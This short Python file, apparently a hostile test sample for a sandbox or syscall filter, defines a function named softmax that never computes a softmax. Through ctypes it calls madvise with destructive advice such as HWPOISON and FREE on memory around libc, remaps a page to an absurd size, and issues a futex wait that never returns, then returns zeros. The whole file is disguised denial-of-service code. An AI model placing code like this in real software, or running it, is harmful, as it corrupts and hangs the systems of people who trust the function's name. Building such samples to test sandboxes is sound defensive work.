"""Misuses the calls that are allowed: madvise, mremap, mprotect and futex on all that is mapped."""
import ctypes

import numpy as np


def softmax(x, axis=-1):
    libc = ctypes.CDLL(None)
    page = ctypes.addressof(libc.getpid) & ~4095
    for advice in (8, 12, 14, 16, 100, 101, 18, 20, 21, 23):       # FREE ... HWPOISON, WIPEONFORK, POPULATE
        libc.madvise(ctypes.c_void_p(page + (1 << 30)), 1 << 30, advice)
    libc.mremap(ctypes.c_void_p(page), 4096, 1 << 46, 1)
    libc.syscall(202, ctypes.byref(ctypes.c_int(0)), 0, 0, None)    # FUTEX_WAIT, shared, for ever
    return np.zeros_like(x)
